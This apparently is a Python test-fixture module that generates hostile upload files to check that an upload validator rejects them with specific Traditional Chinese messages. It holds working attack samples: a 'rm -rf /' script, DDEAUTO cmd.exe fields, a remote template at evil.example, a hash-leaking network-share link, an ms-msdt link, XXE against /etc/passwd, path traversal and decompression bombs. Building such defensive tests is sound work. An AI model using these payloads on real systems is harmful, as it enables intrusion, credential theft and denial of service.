"""Hostile files, built when they are needed: each is an attack or an accident, and the words that must answer it."""

from __future__ import annotations

import gzip
import struct
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name
from PIL import Image

from tests.uploads.making import (
    EXTERNAL,
    ODS,
    ODT,
    damaged,
    docx,
    doubled,
    flagged,
    links_part,
    lying,
    odf,
    pdf,
    picture,
    slashed,
    symlink,
    zipped,
)

EXECUTABLE = b"MZ\x90\x00" + bytes(60) + b"PE\0\0" + bytes(200)
COMPOUND = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
DTD = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'


@dataclass(frozen=True)
class Hostile:
    """One file: its name, how to build its bytes, why it is hostile, and the words of the sentence that refuses it."""

    name: str
    build: Callable[[], bytes]
    why: str
    says: str


# --- Zips --------------------------------------------------------------------------------------------------------------


# --- PDF ---------------------------------------------------------------------------------------------------------------


def _root(key: str, value: Callable[[pikepdf.Pdf], object]) -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        document.Root[key] = value(document)

    return pdf(change)


def _annotated(**keys: Any) -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        note = Dictionary(Type=Name.Annot, Rect=[0, 0, 9, 9], **keys)
        document.pages[0].Annots = Array([document.make_indirect(note)])

    return pdf(change)


def _action(kind: str, **keys: Any) -> Dictionary:
    return Dictionary(S=Name("/" + kind), **keys)


_UNSAID: Any = {"description": "", "mime_type": "", "creation_date": "", "mod_date": ""}


def _attached(document: pikepdf.Pdf) -> None:
    document.attachments["evil.exe"] = pikepdf.AttachedFileSpec(document, EXECUTABLE, filename="evil.exe", **_UNSAID)


def _stream(data: bytes, filters: list[str]) -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        stream = pikepdf.Stream(document, b"")
        stream.write(data, filter=Array([Name("/" + name) for name in filters]))
        document.pages[0].Contents = document.make_indirect(stream)

    return pdf(change, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def _large_picture(document: pikepdf.Pdf) -> None:
    picture = pikepdf.Stream(document, b"\0", Subtype=Name.Image, Width=60_000, Height=60_000, BitsPerComponent=1)
    document.Root.Hidden = document.make_indirect(picture)


def _many_pages(document: pikepdf.Pdf) -> None:
    page = document.pages[0].obj
    document.Root.Pages.Kids = Array([document.make_indirect(page.copy()) for _ in range(2_100)])
    document.Root.Pages.Count = 2_100


def _deep_pages(document: pikepdf.Pdf) -> None:
    kids = document.Root.Pages.Kids
    for _ in range(400):
        kids = Array([document.make_indirect(Dictionary(Type=Name.Pages, Kids=kids, Count=1))])
    document.Root.Pages.Kids = kids


def _looping_pages(document: pikepdf.Pdf) -> None:
    document.Root.Pages.Kids = Array([document.Root.Pages])


def _nested(document: pikepdf.Pdf) -> None:
    value: object = Array([])
    for _ in range(300):
        value = Array([value])
    document.Root.Deep = value


def _in_object_stream() -> bytes:
    """Return a PDF whose script stands in a compressed object stream, unseen by a search over the bytes."""

    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = document.make_indirect(_action("JavaScript", JS=pikepdf.String("app.alert(1)")))

    return pdf(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def _locked(**passwords: Any) -> bytes:
    return pdf(None, encryption=pikepdf.Encryption(**{"owner": "owner", **passwords}))


# --- Pictures ----------------------------------------------------------------------------------------------------------


def _chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">L", len(data)) + name + data + struct.pack(">L", zlib.crc32(name + data))


def _png_bomb() -> bytes:
    header = _chunk(b"IHDR", struct.pack(">LLBBBBB", 50_000, 50_000, 1, 0, 0, 0, 0))
    rows = zlib.compress(bytes(6251 * 2000))
    return b"\x89PNG\r\n\x1a\n" + header + _chunk(b"IDAT", rows) + _chunk(b"IEND", b"")


def _png_text_bomb() -> bytes:
    good = picture("PNG")
    text = _chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(90_000_000)))
    return good[:33] + text + good[33:]


def _mpo() -> bytes:
    second = Image.new("RGB", (40, 30), "#ffffff")
    return picture("MPO", save_all=True, append_images=[second])


def _animated() -> bytes:
    return picture("PNG", save_all=True, append_images=[Image.new("RGB", (40, 30), "#ffffff")])


def _jpg_zip_in_comment() -> bytes:
    """Return a JPG that a zip program opens too: the archive ends in a comment that looks like the picture's end."""
    return picture("JPEG") + zipped({"a.txt": "a"}, comment=b"\xff\xd9")


def _gifar() -> bytes:
    good = picture("JPEG")
    return good + zipped({"META-INF/MANIFEST.MF": "Main-Class: Evil"})


# --- The list ----------------------------------------------------------------------------------------------------------

MACRO = "含有巨集"
EMBEDDED = "內嵌了其他檔案或物件"
OUTSIDE = "會連到外部"
ACTIVE = "自動執行"
ENTITY = "XML 宣告"
BROKEN = "已損壞或不完整"
LOCKED = "設有密碼"
PACKED = "壓縮檔"
PROGRAM = "程式"
STRUCTURE = "內部結構不正常"
FOREIGN = "不屬於它的資料"
SWELLS = "過於龐大或複雜"
UNKNOWN = "不是可以收的檔案"


def hostile_files() -> Iterator[Hostile]:
    """Yield every hostile file, office files first."""
    yield from _plain()
    yield from _office_ooxml()
    yield from _office_odf()
    yield from _archives()
    yield from _pdfs()
    yield from _pictures()


def _plain() -> Iterator[Hostile]:
    yield Hostile("空白.pdf", lambda: b"", "no byte at all", "空的檔案")
    yield Hostile("過大.pdf", lambda: b"%PDF-1.7\n" + bytes(20 * 1024**2), "larger than 20 MB", "20 MB 的上限")
    yield Hostile("程式.pdf", lambda: EXECUTABLE, "a Windows program", PROGRAM)
    yield Hostile("程式.docx", lambda: b"\x7fELF" + bytes(200), "a Linux program", PROGRAM)
    yield Hostile("腳本.pdf", lambda: b"#!/bin/sh\nrm -rf /\n", "a shell script", PROGRAM)
    yield Hostile("網頁.odt", lambda: b"<html><script>alert(1)</script>", "a web page", UNKNOWN)
    yield Hostile("文字.docx", lambda: rb"{\rtf1\ansi \object}", "RTF named DOCX", UNKNOWN)
    yield Hostile("壓縮.pdf", lambda: b"Rar!\x1a\x07\x01\x00" + bytes(99), "a RAR archive", PACKED)
    yield Hostile("壓縮.docx", lambda: gzip.compress(docx()), "a gzipped document", PACKED)
    yield Hostile("舊版.doc", lambda: COMPOUND, "Word before 2007", "舊版 Office")
    yield Hostile(
        "加密.docx", lambda: COMPOUND + "EncryptedPackage".encode("utf-16-le"), "OOXML with a password", LOCKED
    )
    yield Hostile("動畫.jpg", lambda: picture("GIF"), "a GIF named JPG", UNKNOWN)
    yield Hostile("紀錄.pdf", docx, "a DOCX named PDF", "內容其實是 DOCX 檔")
    yield Hostile("紀錄.exe", lambda: pdf(), "a PDF named EXE", "內容其實是 PDF 檔")
    yield Hostile("亂碼.pdf", lambda: bytes(range(256)) * 40, "no known format", UNKNOWN)


def _office_ooxml() -> Iterator[Hostile]:
    macro = "application/vnd.ms-word.document.macroEnabled.main+xml"
    yield Hostile("巨集.docx", lambda: docx(extra={"word/vbaProject.bin": COMPOUND}), "VBA project", MACRO)
    yield Hostile("巨集二.docx", lambda: docx(main=macro), "macro-enabled main part", MACRO)
    yield Hostile(
        "巨集三.docx",
        lambda: docx(links=(("vbaProject", "x.bin", ""),), extra={"word/x.bin": b"renamed"}),
        "VBA project by another name",
        MACRO,
    )
    yield Hostile(
        "巨集.xlsx", lambda: docx(extra={"xl/macrosheets/sheet1.xml": "<x/>"}), "Excel 4.0 macro sheet", MACRO
    )
    yield Hostile("物件.docx", lambda: docx(extra={"word/embeddings/o.bin": COMPOUND}), "OLE object", EMBEDDED)
    yield Hostile("物件二.docx", lambda: docx(extra={"word/media/a.png": COMPOUND}), "OLE named PNG", EMBEDDED)
    yield Hostile("控制項.docx", lambda: docx(extra={"word/activeX/a.xml": "<x/>"}), "ActiveX", EMBEDDED)
    yield Hostile(
        "夾帶.docx",
        lambda: docx(links=(("aFChunk", "a.html", ""),), extra={"word/a.html": "hello"}),
        "a foreign document as a chunk",
        EMBEDDED,
    )
    yield Hostile(
        "範本.docx",
        lambda: docx(
            extra={
                "word/_rels/settings.xml.rels": links_part(
                    ("attachedTemplate", "https://evil.example/t.dotm", EXTERNAL)
                )
            }
        ),
        "remote template",
        OUTSIDE,
    )
    yield Hostile(
        "外部圖.docx",
        lambda: docx(links=(("image", r"\\10.0.0.1\share\a.png", EXTERNAL),)),
        "picture on a network share gives away a password hash",
        OUTSIDE,
    )
    yield Hostile(
        "外部物件.docx", lambda: docx(links=(("frame", "http://evil.example/", EXTERNAL),)), "remote frame", OUTSIDE
    )
    yield Hostile(
        "協定.docx",
        lambda: docx(links=(("hyperlink", "ms-msdt:/id PCWDiagnostic", EXTERNAL),)),
        "link that starts a program",
        OUTSIDE,
    )
    dde = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{}</w:instrText></w:r></w:p>'
    yield Hostile("欄位.docx", lambda: docx(body=dde.format(" DDEAUTO c:\\cmd.exe ")), "DDE field", OUTSIDE)
    yield Hostile(
        "欄位二.docx",
        lambda: docx(body=dde.format(" DD</w:instrText></w:r><w:r><w:instrText>E cmd")),
        "DDE field cut into two runs",
        OUTSIDE,
    )
    yield Hostile("實體.docx", lambda: docx(prolog=DTD), "XML entities", ENTITY)
    yield Hostile(
        "實體二.docx",
        lambda: docx(extra={"docProps/app.xml": '<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>'}),
        "external DTD in a side part",
        ENTITY,
    )
    utf16 = ('<?xml version="1.0" encoding="UTF-16"?>' + DTD + "<x>&b;</x>").encode("utf-16")
    yield Hostile("實體三.docx", lambda: docx(extra={"word/a.dat": utf16}), "entities in UTF-16, no XML name", ENTITY)
    yield Hostile("殘缺.docx", lambda: docx()[:-300], "cut off", BROKEN)
    yield Hostile("壞內文.docx", lambda: docx(body="<w:p>"), "not well-formed", BROKEN)
    yield Hostile("深層.docx", lambda: docx(body="<w:p>" * 9000 + "</w:p>" * 9000), "9,000 levels of XML", SWELLS)
    yield Hostile("簡報.docx", lambda: docx(main="application/vnd.x.presentation.main+xml"), "other program", UNKNOWN)


def _office_odf() -> Iterator[Hostile]:
    def manifest(inner: str) -> Callable[[], bytes]:
        return lambda: odf(manifest=inner)

    encrypted = '<m:file-entry m:full-path="content.xml"><m:encryption-data m:checksum="x"/></m:file-entry>'
    yield Hostile("加密.odt", manifest(encrypted), "ODF with a password", LOCKED)
    yield Hostile("巨集.odt", lambda: odf(extra={"Basic/Standard/M.xml": "<x/>"}), "Basic macro", MACRO)
    yield Hostile("腳本.odt", lambda: odf(extra={"Scripts/python/m.py": "import os"}), "Python macro", MACRO)
    yield Hostile(
        "事件.odt",
        lambda: odf(body='<script:event-listener xlink:href="vnd.sun.star.script:M.m"/>'),
        "macro on an event",
        MACRO,
    )
    yield Hostile(
        "連結巨集.odt", lambda: odf(body='<text:a xlink:href="macro:///M.m()">x</text:a>'), "macro behind a link", MACRO
    )
    yield Hostile("物件.odt", lambda: odf(extra={"Object 1": COMPOUND}), "OLE object", EMBEDDED)
    yield Hostile("外掛.odt", lambda: odf(body="<draw:applet/>"), "Java applet", EMBEDDED)
    yield Hostile(
        "外部圖.odt",
        lambda: odf(body='<draw:image xlink:href="file://10.0.0.1/a.png"/>'),
        "picture on a network share",
        OUTSIDE,
    )
    yield Hostile("資料源.odt", lambda: odf(body="<office:dde-source/>"), "DDE source", OUTSIDE)
    yield Hostile("實體.odt", lambda: odf(prolog=DTD), "XML entities", ENTITY)
    yield Hostile("簡報.odt", lambda: odf(mimetype="application/vnd.oasis.opendocument.presentation"), "ODP", UNKNOWN)
    yield Hostile("無清單.odt", lambda: zipped({"mimetype": ODT, "content.xml": "<x/>"}), "no manifest", BROKEN)
    yield Hostile(
        "試算.ods",
        lambda: odf(mimetype=ODS, prolog="", body="<table:table/>", extra={"Basic/x.xml": "<x/>"}),
        "macro in a sheet",
        MACRO,
    )


def _archives() -> Iterator[Hostile]:
    yield Hostile("資料.docx", lambda: zipped({"a.txt": "a"}), "any zip named DOCX", PACKED)
    yield Hostile("俄羅斯娃娃.docx", lambda: docx(extra={"word/media/a.zip": zipped({"a": "a"})}), "zip in it", PACKED)
    yield Hostile("夾程式.docx", lambda: docx(extra={"word/media/a.png": EXECUTABLE}), "program named PNG", PROGRAM)
    yield Hostile("上層.docx", lambda: docx(extra={"../../etc/cron.d/x": "x"}), "path out of the archive", STRUCTURE)
    yield Hostile("絕對.docx", lambda: docx(extra={"/etc/passwd": "x"}), "absolute path", STRUCTURE)
    yield Hostile("反斜線.docx", slashed, "Windows path", STRUCTURE)
    yield Hostile("連結.docx", symlink, "symbolic link", STRUCTURE)
    yield Hostile("重複.docx", lambda: doubled("word/document.xml"), "two main parts", STRUCTURE)
    yield Hostile("大小寫.docx", lambda: doubled("word/DOCUMENT.xml"), "two main parts but for case", STRUCTURE)
    yield Hostile("炸彈.docx", lambda: docx(extra={"word/a.bin": bytes(150_000_000)}), "ratio of 1,000", SWELLS)
    yield Hostile(
        "多檔.docx", lambda: docx(extra={f"word/{number}": b"" for number in range(3_100)}), "3,100 entries", SWELLS
    )
    yield Hostile("謊報.docx", lambda: lying("word/a.bin", 10), "30 MB that claims to be 10 bytes", SWELLS)
    yield Hostile("旗標.docx", flagged, "encrypted entries", LOCKED)
    yield Hostile("損毀.docx", damaged, "a flipped bit", BROKEN)
    yield Hostile("接尾.docx", lambda: docx() + EXECUTABLE, "a program behind the archive", FOREIGN)
    yield Hostile("註解.docx", lambda: docx(comment=b"<script>alert(1)</script>"), "data as a comment", FOREIGN)


def _pdfs() -> Iterator[Hostile]:
    script = pikepdf.String("app.alert(1)")
    yield Hostile("前綴.pdf", lambda: EXECUTABLE[2:66] + pdf(), "header not at the start", FOREIGN)
    yield Hostile("接尾.pdf", lambda: pdf() + zipped({"a": "a"}), "a zip behind the end", FOREIGN)
    yield Hostile("殘缺.pdf", lambda: pdf()[:-40], "cut off", BROKEN)
    yield Hostile("假冒.pdf", lambda: b"%PDF-1.7\nhello\n%%EOF\n", "nothing but a header", BROKEN)
    yield Hostile("密碼.pdf", lambda: _locked(user="secret"), "needs a password", LOCKED)
    yield Hostile(
        "腳本.pdf", lambda: _root("/OpenAction", lambda _: _action("JavaScript", JS=script)), "script", ACTIVE
    )
    yield Hostile("隱藏腳本.pdf", _in_object_stream, "script in an object stream", ACTIVE)
    yield Hostile(
        "啟動.pdf",
        lambda: _annotated(Subtype=Name.Link, A=_action("Launch", F=pikepdf.String("cmd.exe"))),
        "program",
        ACTIVE,
    )
    yield Hostile("送出.pdf", lambda: _annotated(A=_action("SubmitForm", F=script)), "sends the form away", ACTIVE)
    yield Hostile("動作.pdf", lambda: _root("/AA", lambda _: Dictionary(WC=_action("Named"))), "extra actions", ACTIVE)
    yield Hostile("表單.pdf", lambda: _root("/AcroForm", lambda _: Dictionary(XFA=Array([]))), "XFA form", ACTIVE)
    yield Hostile("影音.pdf", lambda: _annotated(Subtype=Name.RichMedia), "rich media", ACTIVE)
    yield Hostile("夾檔.pdf", lambda: pdf(_attached), "attached program", EMBEDDED)
    yield Hostile("夾檔註記.pdf", lambda: _annotated(Subtype=Name.FileAttachment), "attachment as a note", EMBEDDED)
    yield Hostile(
        "炸彈.pdf", lambda: _stream(zlib.compress(bytes(100_000_000), 9), ["FlateDecode"]), "1,000 times", SWELLS
    )
    yield Hostile(
        "雙層炸彈.pdf",
        lambda: _stream(zlib.compress(zlib.compress(bytes(400_000_000), 9), 9), ["FlateDecode", "FlateDecode"]),
        "400 MB in two layers",
        SWELLS,
    )
    yield Hostile("大圖.pdf", lambda: pdf(_large_picture), "3,600 million pixels", "影像尺寸過大")
    yield Hostile("多頁.pdf", lambda: pdf(_many_pages), "2,100 pages", "頁數過多")
    yield Hostile("深頁.pdf", lambda: pdf(_deep_pages), "400 levels of pages", BROKEN)
    yield Hostile("迴圈.pdf", lambda: pdf(_looping_pages), "pages that contain themselves", BROKEN)
    yield Hostile("深值.pdf", lambda: pdf(_nested), "300 nested arrays", SWELLS)


def _pictures() -> Iterator[Hostile]:
    yield Hostile("炸彈.png", _png_bomb, "2,500 million pixels", "影像尺寸過大")
    yield Hostile("註解炸彈.png", _png_text_bomb, "90 MB of text in 90 KB", BROKEN)
    yield Hostile("殘缺.png", lambda: picture("PNG")[:-30], "cut off", BROKEN)
    yield Hostile("殘缺.jpg", lambda: picture("JPEG")[:-60], "cut off", BROKEN)
    yield Hostile("接尾.png", lambda: picture("PNG") + EXECUTABLE, "a program behind the picture", FOREIGN)
    yield Hostile("接尾.jpg", _gifar, "a JAR behind the picture", FOREIGN)
    yield Hostile("假尾.jpg", _jpg_zip_in_comment, "a zip that ends as a picture does", FOREIGN)
    yield Hostile("立體.jpg", _mpo, "two pictures in one", "多張影像")
    yield Hostile("動畫.png", _animated, "animation", "多張影像")
    yield Hostile("紀錄.jpg", lambda: picture("PNG"), "a PNG named JPG", "內容其實是 PNG 檔")
